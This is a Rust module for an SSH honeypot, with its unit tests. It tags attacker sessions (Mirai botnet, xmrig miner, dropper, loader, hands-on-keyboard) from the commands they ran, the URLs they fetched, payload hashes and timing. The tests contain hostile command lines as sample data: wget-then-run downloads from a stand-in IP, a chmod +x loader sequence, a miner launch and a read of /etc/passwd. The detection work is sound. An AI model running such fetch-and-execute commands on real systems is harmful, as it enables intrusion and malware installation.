@@ -0,0 +1,389 @@
+//! Tags each session with what the client looks to have been up to once it closes, from
+//! signatures over the commands it ran, the URLs it fetched and how quickly it went about it,
+//! so the interesting sessions stand out from the noise. A library of signatures for well known
+//! botnets and miners is bundled, and more can be loaded from files that are read again when
+//! the config is reloaded.
+
+use std::{io::ErrorKind, path::Path};
+
+use serde::Deserialize;
+
+use crate::{
+    audit::{AuditLog, AuditLogAction},
+    config::{ClassifierConfig, Pattern, SignatureConfig},
+};
+
+/// Signatures bundled with the server, used unless `classifier.builtin` is turned off.
+const BUILTIN: &str = include_str!("../signatures.toml");
+
+/// A file of signatures, in the same format as the bundled ones.
+#[derive(Deserialize)]
+#[serde(rename_all = "kebab-case")]
+struct SignatureFile {
+    #[serde(default, rename = "signature")]
+    signatures: Vec<SignatureConfig>,
+}
+
+#[derive(Default)]
+pub struct Classifier {
+    signatures: Vec<SignatureConfig>,
+}
+
+impl Classifier {
+    pub fn new(config: &ClassifierConfig) -> Result<Self, std::io::Error> {
+        let mut signatures = Vec::new();
+
+        if config.builtin {
+            signatures.extend(parse(BUILTIN).map_err(|e| {
+                std::io::Error::new(ErrorKind::InvalidData, format!("bundled signatures: {e}"))
+            })?);
+        }
+
+        for path in &config.signature_files {
+            signatures.extend(load(path)?);
+        }
+
+        signatures.extend(config.signatures.iter().cloned());
+
+        Ok(Self { signatures })
+    }
+
+    /// Tags `log` with each signature it matches.
+    pub fn classify(&self, log: &mut AuditLog) {
+        let session = Session::new(log);
+
+        let tags = self
+            .signatures
+            .iter()
+            .filter(|signature| session.matches(signature))
+            .map(|signature| signature.tag.clone())
+            .collect::<Vec<_>>();
+
+        for tag in tags {
+            log.tag(tag);
+        }
+    }
+}
+
+/// Reads the signatures out of the file at `path`.
+pub fn load(path: &Path) -> Result<Vec<SignatureConfig>, std::io::Error> {
+    let source = std::fs::read_to_string(path).map_err(|e| {
+        std::io::Error::new(
+            e.kind(),
+            format!("failed to read signatures from {}: {e}", path.display()),
+        )
+    })?;
+
+    parse(&source).map_err(|e| {
+        std::io::Error::new(
+            ErrorKind::InvalidData,
+            format!("failed to parse signatures in {}: {e}", path.display()),
+        )
+    })
+}
+
+fn parse(source: &str) -> Result<Vec<SignatureConfig>, toml::de::Error> {
+    Ok(toml::from_str::<SignatureFile>(source)?.signatures)
+}
+
+/// The parts of a session signatures are checked against.
+struct Session<'a> {
+    login_attempts: usize,
+    commands: Vec<&'a str>,
+    urls: Vec<&'a str>,
+    /// SHA-256 hashes of the payloads the client uploaded or downloaded.
+    hashes: Vec<&'a str>,
+    /// Median pause between consecutive commands, if there's been more than one.
+    command_interval_ms: Option<u64>,
+}
+
+impl<'a> Session<'a> {
+    fn new(log: &'a AuditLog) -> Self {
+        let mut login_attempts = 0;
+        let mut commands = Vec::new();
+        let mut offsets = Vec::new();
+        let mut urls = Vec::new();
+        let mut hashes = Vec::new();
+
+        for event in &log.events {
+            match &event.action {
+                AuditLogAction::LoginAttempt(_) => login_attempts += 1,
+                AuditLogAction::ExecCommand(command) => {
+                    commands.extend(command.args.iter().map(String::as_str));
+                    offsets.push(event.offset_ms);
+                }
+                AuditLogAction::DownloadAttempt(download) => {
+                    urls.push(&*download.url);
+                    hashes.extend(download.sha256.as_deref());
+                }
+                AuditLogAction::WriteFile(write) => hashes.push(&*write.sha256),
+                AuditLogAction::Quarantined(quarantined) => hashes.push(&*quarantined.sha256),
+                _ => {}
+            }
+        }
+
+        let mut intervals = offsets
+            .windows(2)
+            .map(|v| v[1].saturating_sub(v[0]))
+            .collect::<Vec<_>>();
+        intervals.sort_unstable();
+
+        Self {
+            login_attempts,
+            commands,
+            urls,
+            hashes,
+            command_interval_ms: intervals.get(intervals.len() / 2).copied(),
+        }
+    }
+
+    fn matches(&self, signature: &SignatureConfig) -> bool {
+        let any = |patterns: &[Pattern], values: &[&str]| {
+            patterns.is_empty()
+                || values
+                    .iter()
+                    .any(|value| patterns.iter().any(|pattern| pattern.is_match(value)))
+        };
+        let within = |value: usize, min: Option<usize>, max: Option<usize>| {
+            min.map_or(true, |min| value >= min) && max.map_or(true, |max| value <= max)
+        };
+        let interval = |bound: Option<u64>, f: fn(u64, u64) -> bool| {
+            bound.map_or(true, |bound| {
+                self.command_interval_ms
+                    .map_or(false, |interval| f(interval, bound))
+            })
+        };
+
+        any(&signature.command, &self.commands)
+            && any(&signature.url, &self.urls)
+            && self.in_sequence(&signature.sequence)
+            && (signature.sha256.is_empty()
+                || self.hashes.iter().any(|hash| {
+                    signature
+                        .sha256
+                        .iter()
+                        .any(|v| v.eq_ignore_ascii_case(hash))
+                }))
+            && within(
+                self.login_attempts,
+                signature.min_login_attempts,
+                signature.max_login_attempts,
+            )
+            && within(
+                self.commands.len(),
+                signature.min_commands,
+                signature.max_commands,
+            )
+            && interval(signature.min_command_interval_ms, |v, min| v >= min)
+            && interval(signature.max_command_interval_ms, |v, max| v <= max)
+    }
+
+    /// Whether the client ran commands matching each of `patterns` in turn, whatever else it
+    /// ran in between.
+    fn in_sequence(&self, patterns: &[Pattern]) -> bool {
+        let mut commands = self.commands.iter();
+
+        patterns
+            .iter()
+            .all(|pattern| commands.any(|command| pattern.is_match(command)))
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use std::{borrow::Cow, time::Duration};
+
+    use super::Classifier;
+    use crate::{
+        audit::{
+            AuditLog, AuditLogAction, AuditLogEvent, DownloadAttemptEvent, ExecCommandEvent,
+            LoginAttemptEvent,
+        },
+        config::{ClassifierConfig, Pattern, SignatureConfig},
+    };
+
+    fn login() -> AuditLogAction {
+        AuditLogAction::LoginAttempt(LoginAttemptEvent::UsernamePassword {
+            username: Box::from("root"),
+            password: Box::from("root"),
+        })
+    }
+
+    fn command(command: &str) -> AuditLogAction {
+        AuditLogAction::ExecCommand(ExecCommandEvent {
+            args: Box::from([command.to_string()]),
+        })
+    }
+
+    fn download(url: &str, sha256: Option<&str>) -> AuditLogAction {
+        AuditLogAction::DownloadAttempt(DownloadAttemptEvent {
+            tool: Cow::Borrowed("wget"),
+            url: Box::from(url),
+            output: None,
+            sha256: sha256.map(Box::from),
+            size: None,
+            error: None,
+        })
+    }
+
+    fn classify(classifier: &Classifier, actions: Vec<(u64, AuditLogAction)>) -> Vec<String> {
+        let mut log = AuditLog::default();
+
+        for (offset_ms, action) in actions {
+            log.events.push(AuditLogEvent {
+                start_offset: Duration::from_millis(offset_ms),
+                ts: None,
+                offset_ms,
+                channel: None,
+                action,
+            });
+        }
+
+        classifier.classify(&mut log);
+        log.tags.into_iter().map(Cow::into_owned).collect()
+    }
+
+    #[test]
+    fn builtin() {
+        let classifier = Classifier::new(&ClassifierConfig::default()).unwrap();
+
+        assert_eq!(classify(&classifier, vec![]), ["scanner"]);
+        assert_eq!(
+            classify(
+                &classifier,
+                vec![(0, login()), (10, login()), (20, login())]
+            ),
+            ["credential-stuffing"]
+        );
+        assert_eq!(
+            classify(
+                &classifier,
+                vec![
+                    (0, login()),
+                    (100, command("enable")),
+                    (110, command("/bin/busybox ECCHI")),
+                    (120, command("cd /tmp; ./xmrig -o stratum+tcp://pool:3333")),
+                ]
+            ),
+            ["botnet:mirai", "cryptominer:xmrig", "cryptominer"]
+        );
+        assert_eq!(
+            classify(
+                &classifier,
+                vec![
+                    (0, login()),
+                    (100, command("enable")),
+                    (110, command("system")),
+                    (120, command("shell")),
+                    (130, command("sh")),
+                ]
+            ),
+            ["botnet:mirai"]
+        );
+        assert_eq!(
+            classify(
+                &classifier,
+                vec![
+                    (0, login()),
+                    (1000, command("w")),
+                    (6000, command("ls -la")),
+                    (9000, command("cat /etc/passwd")),
+                ]
+            ),
+            ["hands-on-keyboard"]
+        );
+    }
+
+    #[test]
+    fn configured() {
+        let classifier = Classifier::new(&ClassifierConfig {
+            builtin: false,
+            signature_files: vec![],
+            signatures: vec![SignatureConfig {
+                tag: "dropper".to_string(),
+                url: vec![Pattern::new(r"http://.*\.sh").unwrap()],
+                max_command_interval_ms: Some(500),
+                ..SignatureConfig::default()
+            }],
+        })
+        .unwrap();
+
+        assert_eq!(
+            classify(
+                &classifier,
+                vec![
+                    (0, command("wget http://192.0.2.1/x.sh")),
+                    (0, download("http://192.0.2.1/x.sh", None)),
+                    (100, command("sh x.sh")),
+                ]
+            ),
+            ["dropper"]
+        );
+        assert!(classify(
+            &classifier,
+            vec![
+                (0, command("wget http://192.0.2.1/x.sh")),
+                (0, download("http://192.0.2.1/x.sh", None)),
+                (5000, command("sh x.sh")),
+            ]
+        )
+        .is_empty());
+        assert!(classify(&classifier, vec![]).is_empty());
+    }
+
+    #[test]
+    fn loads_signature_files() {
+        let path =
+            std::env::temp_dir().join(format!("pisshoff-signatures-{}.toml", uuid::Uuid::new_v4()));
+        std::fs::write(
+            &path,
+            r#"
+                [[signature]]
+                tag = "botnet:example"
+                sha256 = ["ABCDEF"]
+
+                [[signature]]
+                tag = "loader"
+                sequence = ['cd /tmp', 'chmod \+x .*', '\./.*']
+            "#,
+        )
+        .unwrap();
+
+        let classifier = Classifier::new(&ClassifierConfig {
+            builtin: false,
+            signature_files: vec![path.clone()],
+            signatures: vec![],
+        })
+        .unwrap();
+        std::fs::remove_file(path).unwrap();
+
+        assert_eq!(
+            classify(
+                &classifier,
+                vec![(0, download("http://192.0.2.1/x", Some("abcdef")))]
+            ),
+            ["botnet:example"]
+        );
+        assert_eq!(
+            classify(
+                &classifier,
+                vec![
+                    (0, command("cd /tmp")),
+                    (10, command("wget http://192.0.2.1/x")),
+                    (20, command("chmod +x x")),
+                    (30, command("./x")),
+                ]
+            ),
+            ["loader"]
+        );
+        assert!(classify(
+            &classifier,
+            vec![
+                (0, command("cd /tmp")),
+                (10, command("./x")),
+                (20, command("chmod +x x")),
+            ]
+        )
+        .is_empty());
+    }
+}